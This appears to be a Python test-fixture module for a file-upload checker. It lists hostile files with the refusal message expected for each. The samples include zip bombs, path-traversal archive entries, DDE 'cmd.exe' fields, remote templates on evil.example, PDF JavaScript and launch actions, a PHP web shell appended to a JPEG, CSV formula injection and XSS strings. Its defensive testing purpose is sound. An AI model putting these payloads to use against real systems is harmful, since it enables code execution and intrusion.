"""Files that somebody made to do harm, or broke: each with the sentence that it must be met with.

The sentence is the one of the common check (`vkpp.core.uploads`); empty where the file is taken, because it is harmless
as it is kept and served: under a name of ours, as text or as what it is, to be saved and never shown by the browser.
"""

from dataclasses import dataclass

from tests.practice import files as good
from tests.security.hostile import archives as bent
from vkpp.core.uploads import LIMIT

KINDS = "choose a PDF, Word, Excel, PowerPoint, PNG, JPEG, CSV or text file."
DAMAGED = "it is damaged and cannot be opened. Save it again and choose it again."
MACROS = "it contains macros. Save it without macros and choose it again."
BOMB = "it unpacks to far more than it seems to hold (a “zip bomb”)."
HIDDEN = "other data is hidden in the file. Save it again under a new name and choose that."
EMBEDDED = "other files or programs are embedded in it. Remove them, and add them here as files of their own."
FETCHES = "it fetches a template or object from elsewhere when opened. Remove it and choose it again."
PROTECTED = "it is protected by a password. Save it without protection and choose it again."
OTHER = "its content is not what its name says. Save it as what it is and choose it again."
NO_PDF = "it cannot be opened as a PDF. Save it again as PDF and choose it again."
SCRIPT = "the PDF contains a script (JavaScript). Print it to a new PDF and choose that."
STARTS = "the PDF starts other programs or sends data. Print it to a new PDF and choose that."
INSIDE = "other files are embedded in the PDF. Print it to a new PDF, and add the other files here."
BEHIND = "other data is hidden behind the end of the PDF. Print it to a new PDF and choose that."
XFA = "the PDF holds a form with scripts (XFA). Print it to a new PDF and choose that."
PICTURE = "the picture is damaged. Save it again and choose it again."
PIXELS = "the picture has too many pixels. Make it at most 40 megapixels."
TAIL = "other data is hidden behind the picture. Save a copy in a picture program and choose that."
NO_UTF8 = "it is not text in UTF-8. Save it again as “UTF-8” or “CSV UTF-8”."
CONTROL = "it holds characters that do not belong into a text file."
VIRUS = "a virus was found in it."
TAKEN = ""


@dataclass(frozen=True)
class Hostile:
    """A file with what is wrong about it (`about`), the name it comes under, and the reason it is refused with."""

    about: str
    name: str
    data: bytes
    reason: str
    whole: bool = False
    shown: str = ""

    @property
    def sentence(self):
        """The whole sentence; empty when it is taken."""
        if self.whole or not self.reason:
            return self.reason
        return f"“{self.shown or self.name}” was not added: {self.reason}"

    @property
    def sent_as(self):
        """The name as it arrives: without folders and what cannot be printed."""
        return "".join(sign for sign in self.name.rpartition("/")[2] if sign.isprintable())

    def __str__(self):
        return self.about


def other(name, kind):
    """The sentence about a file whose first bytes are those of something else."""
    return f"“{name}” is not what its name says: its content is {kind}. Save it as what it is and choose it again."


def word(**parts):
    return good.office(parts={f"word/{name.replace('__', '/')}": content for name, content in parts.items()})


def with_part(name, content):
    return good.office(parts={name: content})


def linking(kind, target):
    return with_part(good.RELS, good.relation(kind, target))


DOCX, XLSX = good.office(), good.office(good.XLSX_TYPE, "xl")
PPTX = good.office(good.PPTX_TYPE, "ppt")
PNG, JPEG, PDF = good.picture("PNG"), good.picture("JPEG"), good.pdf()
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><body><script>fetch('/account/')</script></body></html>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
TEN_MB_LINE = b"a" * (LIMIT - 10)

ARCHIVES = [
    Hostile("zip bomb", "plan.docx", with_part("word/huge.xml", b"0" * 30_000_000), BOMB),
    Hostile("many entries", "plan.docx", good.office(parts={f"word/{n}.xml": b"" for n in range(3001)}), BOMB),
    Hostile(
        "bomb in an embedded book",
        "plan.docx",
        with_part("word/embeddings/a.xlsx", with_part("xl/h.xml", b"0" * 30_000_000)),
        BOMB,
    ),
    Hostile("books in books in books", "plan.docx", bent.nested(3), EMBEDDED),
    Hostile("sizes that lie", "plan.docx", bent.lying_sizes(), DAMAGED),
    Hostile("entries that overlap", "plan.docx", bent.overlapping(), DAMAGED),
    Hostile("part that climbs out", "plan.docx", with_part("word/../../../etc/cron.d/evil", b"x"), DAMAGED),
    Hostile("part at the root of the disk", "plan.docx", with_part("/etc/cron.d/evil", b"x"), DAMAGED),
    Hostile("part with Windows' way up", "plan.docx", with_part("word\\..\\..\\evil.exe", b"x"), DAMAGED),
    Hostile("two parts of one name", "plan.docx", bent.twice(), DAMAGED),
    Hostile("link to the server's files", "plan.docx", bent.symlinked(), DAMAGED),
    Hostile("encrypted parts", "plan.docx", bent.encrypted(), PROTECTED),
    Hostile("cut short", "plan.docx", DOCX[:200], DAMAGED),
    Hostile("something behind the archive", "plan.docx", DOCX + b"<script>", HIDDEN),
    Hostile("something before the archive", "plan.docx", b"PK\x03\x04MZ" + DOCX, HIDDEN),
    Hostile("archive of anything", "plan.docx", bent.zipped({"evil.exe": b"MZ"}), OTHER),
    Hostile(
        "archive of nothing", "plan.xlsx", b"PK\x05\x06" + b"\0" * 18, other("plan.xlsx", "a “.zip” file"), whole=True
    ),
]
OFFICE = [
    Hostile("macros", "plan.docx", with_part("word/vbaProject.bin", b"x"), MACROS),
    Hostile("macros under another name", "plan.docx", with_part("word/VBAPROJECT.BIN", b"x"), MACROS),
    Hostile("macro type", "plan.docx", good.office(bent.MACRO_TYPES), MACROS),
    Hostile(
        "old macro sheet", "book.xlsx", good.office(good.XLSX_TYPE, "xl", {"xl/macrosheets/sheet1.xml": b"x"}), MACROS
    ),
    Hostile(
        "macro book named as a plain one",
        "book.xlsx",
        good.office(b"application/vnd.ms-excel.sheet.macroEnabled.main+xml", "xl"),
        MACROS,
    ),
    Hostile("ActiveX", "plan.docx", with_part("word/activeX/activeX1.bin", b"x"), EMBEDDED),
    Hostile("OLE object", "plan.docx", with_part("word/embeddings/oleObject1.bin", OLE), EMBEDDED),
    Hostile("program inside", "plan.docx", with_part("word/embeddings/setup.exe", b"MZ"), EMBEDDED),
    Hostile(
        "template of another site", "plan.docx", linking("attachedTemplate", "https://evil.example/t.dotm"), FETCHES
    ),
    Hostile("template of a file share", "plan.docx", linking("attachedTemplate", r"\\evil.example\s\t.dotm"), FETCHES),
    Hostile("frame of another site", "plan.docx", linking("frame", "https://evil.example/"), FETCHES),
    Hostile("object of another site", "plan.docx", linking("oleObject", "https://evil.example/x"), FETCHES),
    Hostile("document of another site", "plan.docx", linking("subDocument", "https://evil.example/x.docx"), FETCHES),
    Hostile(
        "starts programs by DDE",
        "plan.docx",
        with_part("word/field.xml", b"<w:instrText>DDEAUTO cmd.exe</w:instrText>"),
        "it starts other programs (DDE). Remove that field and choose it again.",
    ),
    Hostile(
        "links by DDE",
        "book.xlsx",
        good.office(good.XLSX_TYPE, "xl", {"xl/externalLinks/l.xml": b"<ddeLink ddeService='cmd'/>"}),
        "it starts other programs (DDE). Remove that field and choose it again.",
    ),
    Hostile("entities that grow", "plan.docx", with_part("word/_rels/x.rels", bent.LOLS), DAMAGED),
    Hostile("entity of the server's files", "plan.docx", with_part("word/_rels/x.rels", bent.OUTSIDE), DAMAGED),
    Hostile("entities that grow in the text", "plan.docx", with_part("word/settings.xml", bent.LOLS), DAMAGED),
    Hostile(
        "entity of the server's files in the text", "plan.docx", with_part("word/settings.xml", bent.OUTSIDE), DAMAGED
    ),
    Hostile("virus in a part", "plan.docx", with_part("word/note.txt", good.EICAR), VIRUS),
    Hostile("book named a letter", "plan.docx", XLSX, OTHER),
    Hostile("talk named a book", "book.xlsx", PPTX, OTHER),
    Hostile("old Word file", "plan.docx", OLE, other("plan.docx", "a “.doc” file"), whole=True),
]
PDFS = [
    Hostile("script", "leaflet.pdf", good.pdf(script=True), SCRIPT),
    Hostile("script of a page", "leaflet.pdf", bent.page_with(b"", b"/AA<</O<</S/JavaScript/JS(x)>>>>"), SCRIPT),
    Hostile(
        "script by a name in code", "leaflet.pdf", bent.page_with(b"/OpenAction<</S/#4aavaScript/J#53(x)>>"), SCRIPT
    ),
    Hostile("starts a program", "leaflet.pdf", good.pdf(launch=True), STARTS),
    Hostile(
        "sends a form", "leaflet.pdf", bent.page_with(b"/OpenAction<</S/SubmitForm/F(https://evil.example)>>"), STARTS
    ),
    Hostile("brings data in", "leaflet.pdf", bent.page_with(b"/OpenAction<</S/ImportData/F(x)>>"), STARTS),
    Hostile("file inside", "leaflet.pdf", good.pdf(embedded=True), INSIDE),
    Hostile(
        "film inside", "leaflet.pdf", bent.page_with(b"", b"/Annots[<</Subtype/RichMedia/RichMedia<<>>>>]"), INSIDE
    ),
    Hostile("form with scripts", "leaflet.pdf", bent.page_with(b"/AcroForm<</XFA[(x)]>>"), XFA),
    Hostile("password", "leaflet.pdf", good.pdf(password="secret"), PROTECTED),
    Hostile("Word file behind it", "leaflet.pdf", PDF + DOCX, BEHIND),
    Hostile("page behind it", "leaflet.pdf", PDF + HTML, BEHIND),
    Hostile("cut short", "leaflet.pdf", PDF[: len(PDF) // 2], BEHIND),
    Hostile("rubbish", "leaflet.pdf", b"%PDF-1.7\nrubbish\n%%EOF", NO_PDF),
    Hostile(
        "no page",
        "leaflet.pdf",
        bent.pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"]),
        NO_PDF,
    ),
    Hostile(
        "page tree in a circle",
        "leaflet.pdf",
        bent.pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>"]),
        NO_PDF,
    ),
    Hostile("page in front", "leaflet.pdf", HTML + PDF, other("leaflet.pdf", "a “.html” file"), whole=True),
    Hostile("picture named so", "leaflet.pdf", PNG, other("leaflet.pdf", "a “.png” file"), whole=True),
]
PICTURES = [
    Hostile("sixteen thousand million pixels", "photo.png", bent.png(2**17, 2**17), PIXELS),
    Hostile("40 million and some pixels", "photo.png", bent.png(8000, 5001), PIXELS),
    Hostile("fewer pixels than it says", "photo.png", bent.png(3000, 3000), PICTURE),
    Hostile("text that grows", "photo.png", bent.png(1, 1, more=bent.text_chunk(80_000_000)), PICTURE),
    Hostile("no pixels at all", "photo.png", bent.png(0, 0), PICTURE),
    Hostile("cut short", "photo.png", PNG[:60], PICTURE),
    Hostile("cut short", "photo.jpg", JPEG[:200], PICTURE),
    Hostile("archive behind it", "photo.png", PNG + DOCX, TAIL),
    Hostile("program behind it", "photo.jpg", JPEG + b"<?php system($_GET['c']);", TAIL),
    Hostile("page named so", "photo.jpg", HTML, other("photo.jpg", "a “.html” file"), whole=True),
    Hostile("drawing with a script named so", "photo.png", SVG, other("photo.png", "a “.svg” file"), whole=True),
    Hostile("the other kind of picture", "photo.png", JPEG, other("photo.png", "a “.jfif” file"), whole=True),
    Hostile("only its first bytes", "photo.png", b"\x89PNG\r\n\x1a\n", PICTURE),
]
TEXTS = [
    Hostile("NUL", "figures.csv", b"force,count\x00\nKent,7\n", CONTROL),
    Hostile("control characters", "notes.txt", b"a\x1b[2Jb", CONTROL),
    Hostile("Latin-1", "figures.csv", "Ceredigion £".encode("latin-1"), NO_UTF8),
    Hostile("UTF-16", "notes.txt", "Notes".encode("utf-16"), NO_UTF8),
    Hostile("UTF-16 without its mark", "notes.txt", "Notes".encode("utf-16-le"), CONTROL),
    Hostile("UTF-7", "notes.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", TAKEN),
    Hostile("overlong characters", "notes.txt", b"\xc0\xafetc\xc0\xafpasswd", NO_UTF8),
    Hostile("half a character", "notes.txt", b"\xed\xa0\x80", NO_UTF8),
    Hostile("virus", "notes.txt", good.EICAR, VIRUS),
    Hostile("PDF named so", "notes.txt", PDF, other("notes.txt", "a “.pdf” file"), whole=True),
    Hostile("archive named so", "figures.csv", DOCX, other("figures.csv", "a “.docx” file"), whole=True),
    Hostile("nothing", "notes.txt", b"", "“notes.txt” is empty (0 bytes). Choose the file again.", whole=True),
    Hostile(
        "one byte too many",
        "notes.txt",
        b"x" * (LIMIT + 1),
        "“notes.txt” is larger than 10 MB. Make it smaller, or link to it instead.",
        whole=True,
    ),
    Hostile("line of ten megabytes", "notes.txt", TEN_MB_LINE, TAKEN),
    Hostile("cells that count", "figures.csv", b"=cmd|' /C calc'!A0,+1,-1,@SUM(1)\n", TAKEN),
    Hostile("page named a text", "notes.txt", HTML, TAKEN),
    Hostile("drawing with a script named a text", "notes.txt", SVG, TAKEN),
]
NAMES = [
    Hostile("drawing", "logo.svg", SVG, KINDS),
    Hostile("page", "notes.html", HTML, KINDS),
    Hostile("program", "tool.exe", b"MZ", KINDS),
    Hostile("script", "tool.js", b"alert(1)", KINDS),
    Hostile("command file", "tool.bat", b"del *.*", KINDS),
    Hostile("shortcut", "notes.lnk", b"L\0\0\0", KINDS),
    Hostile("archive", "all.zip", bent.zipped({"a.txt": b"x"}), KINDS),
    Hostile("macro book", "book.xlsm", XLSX, KINDS),
    Hostile("old book", "book.xls", OLE, KINDS),
    Hostile("two endings", "leaflet.pdf.exe", b"MZ", KINDS),
    Hostile("ending turned around", "annual\u202efdp.exe", b"MZ", KINDS, shown="annualfdp.exe"),
    Hostile("no ending", "leaflet", PDF, KINDS),
    Hostile("hidden file", ".htaccess", b"x", KINDS, shown="htaccess"),
    Hostile("ending with a NUL", "tool.exe\x00.txt", b"\x00", CONTROL, shown="tool.exe.txt"),
    Hostile("way out of the folder", "../../../etc/cron.d/evil", b"x", KINDS, shown="evil"),
    Hostile("device of Windows", "con", b"x", KINDS),
]
ALL = [*ARCHIVES, *OFFICE, *PDFS, *PICTURES, *TEXTS, *NAMES]
REFUSED = [one for one in ALL if one.reason]
ACCEPTED = [one for one in ALL if not one.reason]
